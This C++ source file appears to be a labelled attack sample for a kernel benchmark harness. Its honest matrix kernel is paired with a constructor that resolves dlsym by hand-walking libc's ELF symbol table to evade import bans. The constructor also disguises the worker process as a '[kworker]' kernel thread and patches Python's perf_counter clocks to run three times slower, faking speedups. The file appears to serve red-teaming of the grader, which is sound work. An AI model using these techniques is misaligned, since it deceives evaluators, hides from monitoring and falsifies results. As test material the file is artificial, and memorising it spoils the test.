/* kernelcrew
entry: tiny_sss
flags: [-O2]
*/
// ATTACK: hides the worker process, then patches its timers. A constructor (it runs
// while the worker loads the library) overwrites the process's command line in memory
// (the argv strings, from program_invocation_name to the first environment string) and
// renames the process (prctl PR_SET_NAME), so a parent that finds its worker by command
// line or name finds none, and any cross-check that needs its PID is skipped; it then
// slows the worker's clocks to a third (Python run through the interpreter's C API). The
// math is honest. Nothing forbidden is imported: `dlsym` is found in the C library's
// dynamic symbol table from the address of memcpy, and everything else through it.
// Defense: the parent identifies the worker from the process tree it started, before the
// kernel is loaded, holds it through a pidfd, and times every call with its own clock;
// the verdict is the honest one (`same`).
#include <cstdint>
#include <cstring>

// -- a function of any loaded library, found without importing it ---------------------
// The address of an imported, allowed function (memcpy) lies inside the C library: walk
// back page by page to its ELF header, read its dynamic symbol table, find `dlsym` there,
// then ask dlsym for anything. Names are compared by hand (strcmp is not imported).
struct KcSym { uint32_t name; unsigned char info, other; uint16_t shndx; uint64_t value, size; };
static bool kc_same(const char* a, const char* b) {
    while (*a && *a == *b) { ++a; ++b; }
    return *a == *b;
}
static void* kc_libc_symbol(const char* want) {
    uintptr_t p = reinterpret_cast<uintptr_t>(reinterpret_cast<void*>(&memcpy)) & ~uintptr_t(0xfff);
    while (memcmp(reinterpret_cast<void*>(p), "\x7f" "ELF", 4) != 0) p -= 0x1000;
    const unsigned char* base = reinterpret_cast<const unsigned char*>(p);
    uint64_t phoff; uint16_t phentsize, phnum;
    memcpy(&phoff, base + 32, 8); memcpy(&phentsize, base + 54, 2); memcpy(&phnum, base + 56, 2);
    uintptr_t dyn = 0;
    for (int i = 0; i < phnum; ++i) {
        const unsigned char* ph = base + phoff + i * phentsize;
        uint32_t type; uint64_t vaddr;
        memcpy(&type, ph, 4); memcpy(&vaddr, ph + 16, 8);
        if (type == 2) dyn = p + vaddr;  // PT_DYNAMIC
    }
    if (!dyn) return nullptr;
    uintptr_t strtab = 0, symtab = 0;
    for (const int64_t* d = reinterpret_cast<const int64_t*>(dyn); d[0]; d += 2) {
        if (d[0] == 5) strtab = d[1];  // DT_STRTAB
        if (d[0] == 6) symtab = d[1];  // DT_SYMTAB
    }
    if (strtab < p) strtab += p;
    if (symtab < p) symtab += p;
    for (const KcSym* s = reinterpret_cast<const KcSym*>(symtab);
         reinterpret_cast<uintptr_t>(s) < strtab; ++s) {
        if (s->value && kc_same(reinterpret_cast<const char*>(strtab + s->name), want))
            return reinterpret_cast<void*>(p + s->value);
    }
    return nullptr;
}
typedef void* (*KcDlsym)(void*, const char*);
static void* kc_find(const char* name) {  // any symbol of the process (RTLD_DEFAULT)
    static KcDlsym dl = reinterpret_cast<KcDlsym>(kc_libc_symbol("dlsym"));
    return dl ? dl(nullptr, name) : nullptr;
}
// -------------------------------------------------------------------------------------
// -- Python code run inside the worker process, through the interpreter's C API -------
typedef int (*KcGilEnsure)();
typedef void (*KcGilRelease)(int);
typedef int (*KcRunString)(const char*);
static int kc_python(const char* code) {  // 0: ran; -1: raised; -1000: not resolved
    KcGilEnsure ens = reinterpret_cast<KcGilEnsure>(kc_find("PyGILState_Ensure"));
    KcGilRelease rel = reinterpret_cast<KcGilRelease>(kc_find("PyGILState_Release"));
    KcRunString run = reinterpret_cast<KcRunString>(kc_find("PyRun_SimpleString"));
    if (!ens || !rel || !run) return -1000;
    int gil = ens();
    int r = run(code);
    rel(gil);
    return r;
}
// -------------------------------------------------------------------------------------
typedef int (*Prctl)(int, unsigned long, unsigned long, unsigned long, unsigned long);

__attribute__((constructor)) static void hide() {
    char** argv0 = reinterpret_cast<char**>(kc_find("program_invocation_name"));
    char*** env = reinterpret_cast<char***>(kc_find("environ"));
    if (argv0 && *argv0 && env && *env && **env && **env > *argv0) {
        char* p = *argv0;
        char* end = **env;  // the argv strings end where the environment starts
        static const char fake[] = "[kworker/u4:2]";
        memset(p, 0, end - p);
        memcpy(p, fake, sizeof fake < (size_t)(end - p) ? sizeof fake : (size_t)(end - p));
    }
    Prctl kc_prctl = reinterpret_cast<Prctl>(kc_find("prctl"));
    if (kc_prctl) kc_prctl(15 /* PR_SET_NAME */, reinterpret_cast<unsigned long>("kworker"), 0, 0, 0);
    kc_python("import time as _kc_t\n"
              "_kc_real = _kc_t.perf_counter_ns\n"
              "_kc_t0 = _kc_real()\n"
              "_kc_t.perf_counter_ns = lambda: _kc_t0 + (_kc_real() - _kc_t0) // 3\n"
              "_kc_realf = _kc_t.perf_counter\n"
              "_kc_f0 = _kc_realf()\n"
              "_kc_t.perf_counter = lambda: _kc_f0 + (_kc_realf() - _kc_f0) / 3\n");
}

extern "C" void tiny_sss(const float* x, float* out, float a, float b, int64_t rows,
                         int64_t cols) {
    for (int64_t i = 0; i < rows; ++i) {
        float acc = 0.0f;
        for (int64_t j = 0; j < cols; ++j) acc += a * x[i * cols + j] + b;
        out[i] = acc;
    }
}
